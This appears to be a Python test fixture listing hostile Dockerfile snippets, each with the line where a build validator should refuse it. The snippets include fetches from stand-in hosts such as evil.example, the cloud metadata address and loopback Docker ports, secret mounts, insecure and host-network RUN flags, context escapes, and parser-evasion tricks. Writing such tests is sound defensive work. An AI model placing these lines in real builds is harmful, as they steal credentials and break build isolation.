"""Dockerfiles that reach for more than a build is given, in families, each with its line."""

from collections.abc import Mapping
from dataclasses import dataclass, field


@dataclass(frozen=True, slots=True)
class Attack:
    family: str
    name: str
    text: str
    line: int
    """Where the refusal must point."""
    args: Mapping[str, str] = field(default_factory=dict)
    context: str = ""
    target: str = ""


SHA = "a" * 64


def _family(family: str, *attacks: tuple[str, str, int]) -> list[Attack]:
    return [Attack(family, name, text, line) for name, text, line in attacks]


def _line(family: str, **lines: str) -> list[Attack]:
    """One instruction after a plain FROM."""
    return [Attack(family, name, f"FROM busybox\n{line}\n", 2) for name, line in lines.items()]


FRONTENDS = [
    *_family(
        "frontend",
        ("foreign", "# syntax=evil/frontend:1\nFROM busybox\n", 1),
        ("spaced and in capitals", "#   SyNtAx =  evil/frontend\nFROM busybox\n", 1),
        ("after another directive", "# escape=\\\n# syntax=evil/frontend\nFROM busybox\n", 2),
        ("after a shebang", "#!/usr/bin/env docker\n# syntax=evil/x\nFROM busybox\n", 2),
        ("behind a byte order mark", "\ufeff# syntax=evil/x\nFROM busybox\n", 1),
        ("a lookalike", "# syntax=docker/dockerfile-evil:1\nFROM busybox\n", 1),
        ("of another registry", "# syntax=evil.example/docker/dockerfile:1\nFROM busybox\n", 1),
        ("with more words", "# syntax=docker/dockerfile:1 evil\nFROM busybox\n", 1),
        ("given twice", "# syntax=docker/dockerfile:1\n# syntax=evil/x\nFROM busybox\n", 2),
        ("indented", "  # syntax=evil/x\nFROM busybox\n", 1),
        ("in C style", "// syntax=evil/x\nFROM busybox\n", 1),
        ("as JSON", '{"syntax": "evil/x"}\nFROM busybox\n', 1),
        ("by an argument", "ARG BUILDKIT_SYNTAX=evil/x\nFROM busybox\n", 1),
        ("by an argument of a stage", "FROM busybox\nARG a=1 buildkit_syntax=evil/x\n", 2),
    ),
    Attack("frontend", "from outside", "FROM busybox\n", 1, args={"BUILDKIT_SYNTAX": "evil/x"}),
    Attack(
        "frontend", "other settings", "FROM busybox\n", 1, args={"BUILDKIT_SANDBOX_HOSTNAME": "h"}
    ),
]

RIGHTS = _line(
    "rights",
    insecure="RUN --security=insecure id",
    insecure_in_quotes="RUN --secu\"rity\"=inse'cure' id",
    insecure_over_two_lines="RUN \\\n  --security=insecure \\\n  id",
    insecure_behind_a_comment="RUN \\\n# nothing here\n\n  --security=insecure id",
    insecure_behind_a_mount="RUN --mount=type=cache,target=/c --security=insecure id",
    insecure_in_small_letters="run --security=insecure id",
    insecure_after_tabs="RUN\t\t--security=insecure\tid",
    insecure_with_backslash="RUN --sec\\urity=insecure id",
    sandboxed_too="RUN --security=sandbox id",
    without_a_value="RUN --security insecure id",
    host_network="RUN --network=host id",
    host_network_in_quotes='RUN --network="ho"st id',
    network_of_another="RUN --network=container:db id",
    network_by_variable="ARG n=host\nRUN --network=$n id".replace("\n", "\n", 1),
    device="RUN --device=/dev/kvm id",
    device_by_kind="RUN --device=nvidia.com/gpu=all nvidia-smi",
    unknown_flag="RUN --privileged id",
    unknown_flag_with_value="RUN --cap-add=SYS_ADMIN id",
    flags_on_env="ENV --mount=type=secret a=b",
    flags_on_cmd="CMD --security=insecure id",
)
RIGHTS = [
    attack
    if attack.name != "network_by_variable"
    else Attack("rights", attack.name, attack.text, 3)
    for attack in RIGHTS
]

MOUNTS = _line(
    "mounts",
    secret="RUN --mount=type=secret,id=aws cat /run/secrets/aws",
    secret_in_capitals="RUN --mount=TYPE=Secret,id=aws cat /run/secrets/aws",
    ssh="RUN --mount=type=ssh git clone x",
    secret_as_second="RUN --mount=type=cache,target=/c --mount=type=secret,id=k true",
    secret_by_a_default="RUN --mount=type=${none:-secret},id=k true",
    type_unknown="RUN --mount=type=npipe,target=/x true",
    option_unknown="RUN --mount=type=bind,target=/x,propagation=shared true",
    bind_of_an_image="RUN --mount=type=bind,from=alpine,target=/x true",
    bind_by_default="RUN --mount=from=alpine,target=/x true",
    bind_of_itself="RUN --mount=type=bind,from=0,target=/x true",
    bind_above_the_context="RUN --mount=type=bind,source=../../etc,target=/x true",
    bind_in_quotes='RUN --mount="type=bind,source=..,target=/x" true',
    bind_with_a_drive="RUN --mount=type=bind,source=C:/,target=/x true",
    target_is_all="RUN --mount=type=tmpfs,target=/ true",
    target_is_proc="RUN --mount=type=tmpfs,target=/proc/sys true",
    target_climbs="RUN --mount=type=cache,target=/a/../../proc true",
    target_with_options="RUN --mount=type=tmpfs,target=/x:exec true",
    no_target="RUN --mount=type=cache true",
    cache_of_an_image="RUN --mount=type=cache,from=alpine,target=/c true",
    from_a_variable="RUN --mount=type=bind,from=$x,target=/x true",
    relative_to_nowhere="RUN --mount=type=bind,target=here true",
    type_twice="RUN --mount=type=cache,target=/x,type=secret true",
    csv_quotes="RUN --mount='\"type=secret\",id=x' true",
    bind_by_an_escaped_name=r"RUN --mount=type=bind,source=\\\$F,target=/x true",
    bind_by_a_quoted_name="RUN --mount=\"source='$F',target=/x\" true",
    bind_by_a_pattern="RUN --mount=type=bind,source=*.txt,target=/x true",
    bind_by_a_class="RUN --mount=type=bind,source=[ab],target=/x true",
    bind_by_a_joker="RUN --mount=type=bind,source=data/?,target=/x true",
    bind_with_a_quote=r"RUN --mount=type=bind,source=\\\'a,target=/x true",
    bind_at_a_pattern="RUN --mount=type=bind,source=a,target=/x* true",
    bind_at_a_variable="RUN --mount=\"source=a,target='/$F'\" true",
) + _family(
    "mounts",
    ("secret by ARG", "FROM busybox\nARG t=secret\nRUN --mount=type=$t,id=k true\n", 3),
    ("comma by ARG", "FROM busybox\nARG c=a,rw\nRUN --mount=source=$c,target=/x true\n", 3),
    ("source by ENV", "FROM busybox\nENV s=..\nRUN --mount=source=$s,target=/x true\n", 3),
    ("a later stage", "FROM busybox\nRUN --mount=from=b,target=/x true\nFROM busybox AS b\n", 2),
)

SOURCES = _line(
    "sources",
    above="COPY ../secret /x",
    above_in_the_middle="COPY a/../../secret /x",
    above_in_json='COPY ["../secret", "/x"]',
    above_by_escape="COPY .\\./secret /x",
    above_by_quotes='COPY "."./secret /x',
    above_second="COPY a ../b /x",
    above_with_add="ADD ../secret /x",
    above_by_default="COPY ${none:-..}/secret /x",
    above_by_alternative="COPY ${PATH:+..}/secret /x",
    drive="COPY C:/Windows /x",
    drive_backslash='COPY ["C:\\\\Windows", "/x"]',
    backslashes='COPY ["..\\\\\\\\secret", "/x"]',
    option_like='COPY ["-rf", "/x"]',
    nothing='COPY ["", "/x"]',
    control_character='COPY ["a\\nb", "/x"]',
    image_by_digest_trick="COPY --from=sha256:abc /x /x",
    image_by_scheme="COPY --from=docker://alpine /x /x",
    image_with_path="COPY --from=../other /x /x",
    image_by_variable="COPY --from=$image /x /x",
    image_here="COPY --from=localhost:5000/x /x /x",
    own_stage="COPY --from=0 /x /x",
    missing_stage="COPY --from=7 /x /x",
    unknown_flag="COPY --device=/dev/sda a /x",
    owner_with_option="COPY --chown=-x a /x",
    heredoc_as_target="COPY a <<EOF\nEOF",
) + _family(
    "sources",
    ("above by ARG", "ARG up=..\nFROM busybox\nARG up\nCOPY $up/secret /x\n", 4),
    ("above by ENV", "FROM busybox\nENV up=../\nCOPY ${up}secret /x\n", 3),
    ("above by pattern", "FROM busybox\nARG v=a../b\nCOPY ${v#a} /x\n", 3),
    ("above by replacement", "FROM busybox\nARG v=xx/b\nCOPY ${v//x/.} /x\n", 3),
    ("with another escape", "# escape=`\nFROM busybox\nCOPY ..\\secret /x\n", 3),
    ("a later stage", "FROM busybox\nCOPY --from=b /x /x\nFROM busybox AS b\n", 2),
)
SOURCES += [
    Attack(
        "sources",
        "above by a given argument",
        "FROM busybox\nARG s=a\nCOPY $s /x\n",
        3,
        args={"s": ".."},
    ),
    Attack("sources", "context above", "FROM busybox\n", 1, context="../other"),
    Attack("sources", "context elsewhere", "FROM busybox\n", 1, context="/etc"),
    Attack("sources", "no such target", "FROM busybox AS a\n", 1, target="b"),
    Attack("sources", "control character given", "FROM busybox\n", 1, args={"a": "b\nRUN id"}),
]

FETCHED = _line(
    "fetched",
    url="ADD https://evil.example/x /x",
    url_in_json='ADD ["http://evil.example/x", "/x"]',
    url_by_default="ADD ${none:-https://evil.example/x} /x",
    git="ADD git@github.com:evil/x.git /x",
    unpack="ADD --unpack=true a /x",
    keep_git="ADD --keep-git-dir=true a /x",
    archive="ADD bomb.tar.gz /x",
    archives="ADD data/* /x",
    copy_of_url="COPY https://evil.example/x /x",
) + _line(
    "fetched by the engine",
    git_by_https="ADD https://github.com/evil/x.git /x",
    git_with_ref="ADD https://github.com/evil/x.git#main:sub /x",
    git_scheme="ADD git://evil.example/x /x",
    git_by_ssh="ADD ssh://git@evil.example/x /x",
    git_short="ADD github.com/evil/x /x",
    metadata="ADD http://169.254.169.254/latest/meta-data /x",
    this_machine="ADD http://localhost:8080/ /x",
    loopback="ADD http://127.0.0.1:2375/images/json /x",
    loopback_by_number="ADD http://0x7f000001/ /x",
    loopback_v6="ADD http://[::1]/ /x",
    this_machine_by_name="ADD http://host.docker.internal/ /x",
    password="ADD https://user:secret@evil.example/x /x",
    file_scheme="ADD file:///etc/passwd /x",
    beside_files="ADD https://good.example/x a /x",
    loopback_by_a_name_of_the_world="ADD http://127.0.0.1.nip.io:2375/images/json /x",
    metadata_by_a_name_of_the_world="ADD http://169.254.169.254.nip.io/latest/meta-data /x",
    that_leads_on="ADD https://redirect.example/?to=http://169.254.169.254/ /x",
    with_its_checksum=f"ADD --checksum=sha256:{SHA} https://good.example/x.tgz /x",
    by_ftp="ADD ftp://evil.example/x /x",
    in_capitals="ADD HTTP://evil.example/x /x",
)
FETCHED += _family(
    "fetched",
    ("url by ARG", "FROM busybox\nARG u=https://evil.example\nADD $u/x /x\n", 3),
)

IMAGES = [
    Attack("images", name, f"# a comment\nFROM {image}\n", 2)
    for name, image in {
        "by scheme": "docker://alpine",
        "from a folder": "oci-layout:///tmp/x",
        "relative": "./alpine",
        "above": "../alpine",
        "absolute": "/var/lib/image",
        "double slash": "docker.io//alpine",
        "identity": SHA,
        "short identity": "6f8431550778",
        "identity with its kind": f"sha256:{SHA}",
        "short digest": "alpine@sha256:abc",
        "other digest": "alpine@md5:abc",
        "capitals": "Alpine",
        "an option": "--platform",
        "a dash": "-alpine",
        "this machine": "localhost/alpine",
        "this machine with a port": "localhost:5000/alpine",
        "an address": "127.0.0.1:5000/alpine",
        "the host": "host.docker.internal:5000/alpine",
        "a neighbour": "registry:5000/alpine",
        "ours": "roundtable-run:latest",
        "ours with a path": "roundtable/step:1",
        "ours by its long name": "library/roundtable-cache:0a1b",
        "ours by its longest name": "docker.io/library/roundtable-run-0a1b:1",
        "a variable that is not set": "$nothing",
        "an error on purpose": "${nothing:?set it}",
        "two words": "alpine latest",
        "a name that is none": "alpine AS 1",
        "a reserved name": "alpine AS scratch",
        "too long": "a" * 300,
        "windows": "--platform=windows/amd64 alpine",
        "platform of nothing": "--platform=$nothing alpine",
        "unknown flag": "--pull=always alpine",
        "not ASCII": "\u0430lpine",
    }.items()
] + _family(
    "images",
    ("by ARG", "ARG i=docker://x\nFROM $i\n", 2),
    ("second stage", "FROM busybox\nFROM localhost:1/x\n", 2),
    ("a name twice", "FROM busybox AS a\nFROM busybox AS A\n", 2),
    ("none at all", "# nothing\n", 1),
    ("a command before it", "RUN id\nFROM busybox\n", 1),
)

DECLARATIONS = _line(
    "declarations",
    onbuild="ONBUILD RUN id",
    onbuild_in_small_letters="onbuild copy . /x",
    onbuild_with_heredoc="ONBUILD RUN <<EOF\nid\nEOF",
    our_label="LABEL roundtable.run=other",
    our_label_in_quotes='LABEL a=b "roundtable.run"="x"',
    our_label_in_capitals="LABEL RoundTable.Run=x",
    our_label_old_form="LABEL roundtable.run other",
    our_label_by_default="LABEL ${none:-roundtable}.run=x",
    label_of_compose="LABEL com.docker.compose.project=other",
    label_of_compose_in_capitals="LABEL a=b COM.Docker.Compose.Project=other",
    label_of_a_swarm="LABEL com.docker.swarm.service.id=x",
    our_label_beside_one_that_is_dropped="LABEL com.docker.x=y roundtable.run=x",
    port_by_default="EXPOSE ${none:-0.0.0.0:22:22}",
    folder_of_handles="WORKDIR /proc/self/fd/8",
    folder_relative="WORKDIR proc/self/fd/8",
    folder_climbing="WORKDIR /app/../proc/self/fd/8",
    folder_by_default="WORKDIR ${HOME:-/proc/self/fd/8}",
    folder_by_alternative="WORKDIR ${PATH:+/proc/self/fd/8}",
    folder_option="WORKDIR -x",
    folder_with_drive="WORKDIR C:/x",
    user_option="USER -u0",
    user_with_space="USER root --privileged",
    user_by_alternative="USER ${PATH:+--privileged}",
    signal="STOPSIGNAL --privileged",
    port_on_the_host="EXPOSE 0.0.0.0:22:22",
    port_too_high="EXPOSE 70000",
    ports_too_many="EXPOSE 1-65535",
    port_as_option="EXPOSE --publish-all",
    volume_of_proc="VOLUME /proc",
    volume_of_all='VOLUME ["/"]',
    volume_with_options="VOLUME /x:exec,suid",
    volume_climbing='VOLUME ["/a/../../dev"]',
    health_flag="HEALTHCHECK --privileged CMD true",
    health_kind="HEALTHCHECK RUN true",
    health_time="HEALTHCHECK --interval=1x CMD true",
    shell_text="SHELL /bin/sh -c",
    shell_option='SHELL ["-c"]',
    entrypoint_option='ENTRYPOINT ["--privileged"]',
    run_option='RUN ["--privileged"]',
    env_name="ENV ${x}=y",
    arg_name="ARG $x=y",
)
DECLARATIONS += _family(
    "declarations",
    *(
        (f"folder by ENV: {said}", f"FROM busybox\nENV {said}\nWORKDIR {used}\n", 3)
        for said, used in (
            ("d=${PATH:+/proc/self/fd/8}", "$d"),
            ("d=${d:-/proc/self/fd/8}", "$d"),
            ("d=${d-/proc}", "${d}"),
            ("d=/proc/self/fd/$X", "$d"),
            ("d=$HOME/../proc", "$d"),
            ("d=${X:-/app/deep}", "$d/../proc"),
            ("d=${X:-/proc} e=${PATH:-../app}", "$d/$e"),
            ("d=${PATH:+/pr}", "${d}oc"),
            ("d='${PATH%x}'/proc e=${PATH%%*}/proc", "$e"),
        )
    ),
    ("folder by two ENVs", "FROM busybox\nENV d=${A:+/proc}\nENV e=$d\nWORKDIR $e\n", 4),
    ("our label by ARG", "FROM busybox\nARG n=roundtable\nLABEL $n.run=x\n", 3),
    (
        "ports without end",
        "FROM busybox\nENV p='" + "80 " * 2600 + "'\nEXPOSE " + "$p " * 1900 + "\n",
        3,
    ),
    ("port by ARG", "FROM busybox\nARG p='80 --x'\nEXPOSE $p\n", 3),
)

SWALLOWED = (
    "COPY <<EOF /y\nADD http://127.0.0.1:18765/s.txt /stolen\nRUN id >/pwned\nRUN echo \\\n"
    "EOF\nCMD cat /pwned"
)
"""A body that the builder would take for instructions, were the line before to go on."""
WRITING = _line(
    "writing",
    unknown_instruction="MOUNT /dev/sda /x",
    instruction_of_another_builder="INCLUDE other",
    cross_script="\u0421OPY . /x",
    no_break_space="COPY\u00a0. /x",
    null_byte="RUN id\0",
    escape_sequence="RUN echo \x1b[2Jclean",
    carriage_return="RUN true\rRUN --security=insecure id",
    vertical_tab="RUN\v--security=insecure id",
    text_direction="RUN echo \u202egnitirw",
    line_separator="ENV a=b\u2028RUN id",
    open_heredoc="RUN <<EOF\nid",
    open_quote='COPY "a /x',
    heredoc_beside_open_quote="RUN echo it's <<EOF\nid\nEOF",
    array_of_others="RUN [1, 2]",
    array_too_deep="RUN " + "[" * 50_000,
    bad_substitution="ENV a=${}",
    unknown_substitution="ENV a=${b^^}",
    nested_too_deep="ENV a=" + "${a:-" * 100 + "}" * 100,
    two_escapes="RUN echo \\\\\nRUN id",
    surrogate='CMD ["\\ud800"]',
    escape_before_form_feed="WORKDIR /x\\\f\n" + SWALLOWED,
    escape_before_vertical_tab="WORKDIR /x\\\v\n" + SWALLOWED,
    escape_before_no_break_space="WORKDIR /x\\\u00a0\n" + SWALLOWED,
    escape_before_em_space="WORKDIR /x\\\u2003\nUSER 1",
    escape_before_next_line="WORKDIR /x\\\x85\nUSER 1",
    escape_before_odd_and_plain_spaces="WORKDIR /x\\\u00a0 \t\nUSER 1",
    escape_before_the_end="WORKDIR /x\\ \\",
    escape_before_blank_lines="WORKDIR /x\\ \\\n\n\t\n# no\n\\",
    odd_space_before_a_comment="\x1c# RUN id",
    odd_space_alone="\x1f",
    odd_space_between="COPY a\u2003b /x",
    odd_space_after_a_flag="COPY --link\u00a0a /x",
) + _family(
    "writing",
    ("heredoc that hides", "FROM busybox\nRUN echo x<<EOF\n--security\nEOF\n", 3),
    ("quoted heredoc end", "FROM busybox\nRUN cat <<'E F'\nE F\n", 2),
    ("after a heredoc", "FROM busybox\nRUN <<EOF\nid\nEOF\nRUN --security=insecure id\n", 5),
    ("between two heredocs", "FROM busybox\nRUN <<A cat <<B\nA\nB\nRUN --network=host id\n", 5),
    ("after tabs", "FROM busybox\nRUN <<-EOF\n\tid\n\tEOF\nRUN --device=x id\n", 5),
    ("in windows lines", "FROM busybox\r\nRUN \\\r\n --security=insecure id\r\n", 2),
    ("other escape", "# escape=`\nFROM busybox\nRUN `\n --security=insecure id\n", 3),
    ("other escape before a space", "# escape=`\nFROM busybox\nWORKDIR /x`\u00a0\nUSER 1\n", 3),
    ("other escape at the end", "# escape=`\nFROM busybox\nWORKDIR /x` `\n", 3),
    ("escape and an odd space", "# escape=`\u00a0\nFROM busybox\nWORKDIR /x\n", 1),
    ("an odd space within", "FROM busybox\nRUN a \\\n\u2003\\\n b\n", 3),
    ("escape that is none", "# escape=x\nFROM busybox\n", 1),
    (
        "doubling",
        "FROM busybox\nENV a0=xxxxxxxxxx\n"
        + "".join(f"ENV a{n}=$a{n - 1}$a{n - 1}\n" for n in range(1, 60)),
        12,
    ),
    ("too many stages", "FROM busybox\n" * 65, 65),
    ("too many lines", "FROM busybox\n" + "USER 1\n" * 1000, 1001),
    ("too long", "FROM busybox\n" + "#" * 300_000, 1),
    ("a line too long", "FROM busybox\nRUN " + "a" * 70_000 + "\n", 2),
    ("too many names", "FROM busybox\nENV " + " ".join(f"a{n}=1" for n in range(600)), 2),
)

ATTACKS: tuple[Attack, ...] = tuple(
    FRONTENDS + RIGHTS + MOUNTS + SOURCES + FETCHED + IMAGES + DECLARATIONS + WRITING
)
FILES = ("app.py", "a", "b", "data/notes.txt", "data/bomb.tgz", "bomb.tar.gz")
